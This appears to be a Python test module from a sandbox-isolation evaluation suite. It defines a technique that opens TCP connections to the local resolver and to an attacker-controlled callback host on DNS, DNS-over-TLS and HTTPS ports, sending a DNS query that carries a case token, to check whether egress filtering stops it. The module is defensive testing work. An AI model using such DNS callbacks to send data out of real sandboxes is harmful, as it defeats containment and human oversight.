"""The same by TCP, and over TLS."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Connect to the machine's resolver and to the attacker's at the ports of DNS, DNS over TLS and over HTTPS.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_tcp",),
    policies=BOTH,
    variants={"53": 53, "853": 853, "443": 443},
)


def attack(case: Case, what: Any) -> None:
    message = inside.question(f"{case.token}.{case.ground.callback}")
    for address in (case.ground.resolver_at, case.ground.callback_at):
        case.connect(address, what, len(message).to_bytes(2, "big") + message, seconds=1)
